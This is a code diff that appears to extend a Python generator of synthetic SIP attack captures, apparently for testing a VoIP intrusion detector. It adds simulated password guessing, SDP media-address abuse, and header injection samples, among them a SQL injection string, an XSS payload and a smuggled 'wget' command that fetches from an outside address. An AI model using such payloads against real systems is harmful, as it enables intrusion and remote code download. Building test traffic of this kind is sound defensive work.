@@ -63,6 +63,17 @@ def auth_distributed(capture):
 
 
 @attack
+def auth_between(capture):
+    """Guesses between the successes of an account that the attacker has."""
+    for i in range(12):
+        own = i % 4 == 3
+        user = "900" if own else "100"
+        exchange(capture, request("REGISTER", 2 * i, user=user, to=user), 401, challenge(f"b{i}"))
+        exchange(capture, request("REGISTER", 2 * i + 1, user=user, to=user, lines=[credentials(user, f"b{i}", i + 1)]), 200 if own else 403)
+        capture.wait(2)
+
+
+@attack
 def auth_spray(capture):
     for i in range(14):
         exchange(capture, request("REGISTER", i, user=f"3{i:02d}", lines=[credentials(f"3{i:02d}", f"n{i}", 7)]), 403)
@@ -351,6 +362,11 @@ def injection(capture):
     for i, agent in enumerate(agents):
         capture.udp(ATTACKER, SERVER, request("REGISTER", i, lines=[f"User-Agent: {agent}"]))
         capture.wait(90)
+    others = ["a' union select secret--", "<svg onload=alert(1)>", "x; wget http://198.51.100.66/a"]
+    for i, other in enumerate(others):
+        source = f"198.51.100.{70 + i}"
+        capture.udp(source, SERVER, request("INVITE", 10 + i, src=source, lines=[f"Subject: {other}"]))
+        capture.wait(1)
 
 
 @attack
@@ -366,6 +382,13 @@ def sdp_loopback(capture):
     capture.udp(ATTACKER, SERVER, call_with(1, sdp(host="127.0.0.1")))
     capture.wait(90)
     capture.udp(ATTACKER, SERVER, call_with(2, sdp(host="224.0.0.9")))
+    capture.wait(90)
+    capture.udp("9.9.9.66", SERVER, call_with(3, sdp(host="240.1.2.3"), src="9.9.9.66"))
+
+
+@attack
+def sdp_third_party(capture):
+    exchange(capture, call_with(1, sdp(host="9.9.9.200")), 486)
 
 
 if __name__ == "__main__":
